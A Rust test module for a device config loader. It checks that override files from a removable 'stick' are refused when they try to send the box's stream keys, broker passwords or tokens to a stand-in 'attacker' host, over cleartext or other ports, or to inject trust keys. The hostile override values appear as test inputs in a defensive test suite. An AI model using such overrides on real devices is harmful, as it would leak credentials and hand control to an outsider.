//! A stick and the box's secrets: where they may go, and where not.

use std::path::Path;

use crate::config::{Config, STICK_FILE};

/// What loading says of a box with these files of its own, with what a stick brought in its place.
fn with_stick(main: &str, later: &str, stick: &str) -> Result<Config, String> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("tallybox.toml");
    std::fs::write(&path, main).unwrap();
    std::fs::create_dir(dir.path().join("conf.d")).unwrap();
    std::fs::write(dir.path().join("conf.d/90.toml"), later).unwrap();
    let tried = Config::load_with(&path, STICK_FILE, Path::new("/stick/tallybox.toml"), stick.to_owned());
    std::fs::write(dir.path().join("conf.d").join(STICK_FILE), stick).unwrap();
    let there = Config::load(&path);
    assert_eq!(tried.is_ok(), there.is_ok(), "judged before as it is each time that it is read: {there:?}");
    tried.map_err(|error| error.to_string())
}

const MAIN: &str = "[ingest]\nurl = \"rtmps://push.example.cn/live/${STREAM_KEY}\"\n\
    [mqtt]\nurl = \"mqtts://${USER}:${BROKER_PASSWORD}@broker.example.cn\"\nca-file = \"/etc/tallybox/ca.pem\"\n\
    client-cert = \"/etc/tallybox/client.pem\"\nclient-key = \"${MQTT_KEY}\"\n";

#[track_caller]
fn refused(main: &str, stick: &str, why: &str) {
    let said = with_stick(main, "", stick).unwrap_err();
    assert!(said.starts_with("/stick/tallybox.toml:") && said.contains(why), "{said}\n  is not about\n{why}");
}

#[test]
fn a_secret_goes_only_where_the_boxs_own_files_send_it() {
    for (stick, why) in [
        // To another server, by whatever way.
        (
            "[mqtt]\nurl = \"mqtts://${BROKER_PASSWORD}:${STREAM_KEY}@attacker\"\n",
            "2:7: [mqtt] url: a stick cannot send",
        ),
        ("[mqtt]\nurl = \"mqtts://${USER}:${BROKER_PASSWORD}@attacker\"\n", "the secret USER to mqtts://attacker:8883"),
        ("[mqtt]\nurl = \"mqtts://attacker\"\n", "the secret MQTT_KEY to mqtts://attacker:8883"),
        ("[ingest]\nurl = \"rtmps://attacker/live/${STREAM_KEY}\"\n", "the secret STREAM_KEY to rtmps://attacker:443"),
        ("[ingest]\nurl = \"https://attacker/w\"\ntoken = \"${STREAM_KEY}\"\n", "3:9: [ingest] token: a stick"),
        ("[ingest.second]\nurl = \"rtmps://attacker/live/${STREAM_KEY}\"\n", "[ingest.second] url: a stick cannot"),
        ("[ingest.second]\nurl = \"rtmps://push.example.cn/live/${STREAM_KEY}\"\n", "[ingest.second] url: a stick"),
        // In clear text, to another port, or trusting somebody else.
        ("[ingest]\nurl = \"rtmp://push.example.cn/live/${STREAM_KEY}\"\n", "to rtmp://push.example.cn:1935"),
        ("[ingest]\nurl = \"rtmps://push.example.cn:444/live/${STREAM_KEY}\"\n", "to rtmps://push.example.cn:444"),
        ("[mqtt]\nca-file = \"/tmp/ca.pem\"\n", "[mqtt] url: a stick cannot send the secret USER"),
        ("[ingest]\nca-file = \"/tmp/ca.pem\"\n", "a stick cannot send the secret STREAM_KEY"),
        // Another secret to the same server, and a secret of whoever wrote the unit.
        ("[ingest]\nurl = \"rtmps://push.example.cn/live/${BROKER_PASSWORD}\"\n", "the secret BROKER_PASSWORD"),
        ("[ingest]\nurl = \"rtmps://push.example.cn/live/${STREAM_KEY}-${HOME}\"\n", "the secret HOME"),
        (
            "[mqtt]\nclient-key = \"${STREAM_KEY}\"\n",
            "2:14: [mqtt] client-key: a stick cannot send the secret STREAM_KEY",
        ),
    ] {
        refused(MAIN, stick, why);
    }
    for stick in [
        "[video]\nfps = 10\n",
        "[ingest]\nurl = \"rtmps://push.example.cn/another/${STREAM_KEY}\"\n",
        "[ingest]\nurl = \"rtmps://push.example.org/live/a-key-of-its-own\"\n",
        "[mqtt]\ntelemetry-interval = \"60s\"\n",
    ] {
        with_stick(MAIN, "", stick).unwrap();
    }
}

#[test]
fn a_secret_that_is_written_out_stays_too() {
    let whip = "[ingest]\nurl = \"https://whip.example.cn/w\"\ntoken = \"written-out\"\n";
    refused(whip, "[ingest]\nurl = \"https://attacker/w\"\n", "2:7: [ingest] url: a stick cannot send the box's token");
    with_stick(whip, "", "[ingest]\nurl = \"https://b.example.cn/w\"\ntoken = \"another\"\n").unwrap();
    let key = "[ingest]\nurl = \"rtmps://push.example.cn/live\"\nstream-key = \"written-out\"\n";
    refused(key, "[ingest]\nurl = \"rtmps://attacker/live\"\n", "a stick cannot send the box's stream-key");
    with_stick(key, "", "[ingest]\nurl = \"rtmps://b.example.cn/live\"\nstream-key = \"another\"\n").unwrap();
    let broker = "[ingest]\nurl = \"rtmps://push.example.cn/live/k\"\n[mqtt]\nurl = \"mqtts://broker.example.cn\"\n\
                  user = \"box\"\npassword = \"written-out\"\n";
    refused(broker, "[mqtt]\nurl = \"mqtts://attacker\"\n", "2:7: [mqtt] url: a stick cannot send the box's password");
    refused(&broker.replace("written-out", "${P}"), "[mqtt]\nurl = \"mqtts://attacker\"\n", "the secret P to");
    // A key that stands in an address goes away with it.
    let (before, after) = ("rtmps://push.example.cn/live/k", "rtmps://b.example.cn/live/k");
    with_stick(&format!("[ingest]\nurl = \"{before}\"\n"), "", &format!("[ingest]\nurl = \"{after}\"\n")).unwrap();
    let srt = "[ingest]\nurl = \"srt://srt.example.cn:9000\"\npassphrase = \"0123456789\"\n";
    refused(srt, "[ingest]\nurl = \"srt://attacker:9000\"\n", "[ingest] url: a stick cannot send the box's passphrase");
    assert!(!with_stick(whip, "", "[ingest]\nurl = \"https://attacker/w\"\n").unwrap_err().contains("written-out"));
}

#[test]
fn the_boxs_own_files_have_the_last_word_and_are_whole_without_a_stick() {
    // What a later file of the integrator's says is in force, and is not the stick's doing.
    let later = "[ingest]\nurl = \"rtmps://other.example.cn/live/${OTHER_KEY}\"\n";
    let config = with_stick(MAIN, later, "[ingest]\nurl = \"rtmps://attacker/live/${STREAM_KEY}\"\n").unwrap();
    assert!(config.ingest.hosts().contains("other.example.cn"));
    // A box without an address has nothing that a secret could be bound to.
    let none = "[mqtt]\nurl = \"mqtts://broker.example.cn\"\n";
    let said = with_stick(none, "", "[ingest]\nurl = \"rtmps://push.example.cn/live/k\"\n").unwrap_err();
    assert!(said.contains("[ingest] url is missing"), "{said}");
}

#[test]
fn trust_never_comes_from_a_stick() {
    let key = notes::SignerKey::new("attacker/key", &[9; 32]).unwrap().verifier_key();
    let table = format!("[[trust]]\nkey = \"{key}\"\nmay = [\"erase\"]\n");
    refused(MAIN, &table, "1:3: [trust] cannot come from a stick");
    refused(MAIN, &format!("trust = [{{ key = \"{key}\", may = [\"erase\"] }}]\n"), "1:1: [trust] cannot come from a");
    // The very same as the box has, and an empty one.
    refused(&format!("{MAIN}{table}"), "trust = []\n", "1:1: [trust] cannot come from a stick");
    refused(MAIN, "[trust-thresholds]\n", "1:2: [trust-thresholds] cannot come from a stick");
    assert_eq!(with_stick(&format!("{MAIN}{table}"), "", "").unwrap().trust.keys.len(), 1);
}
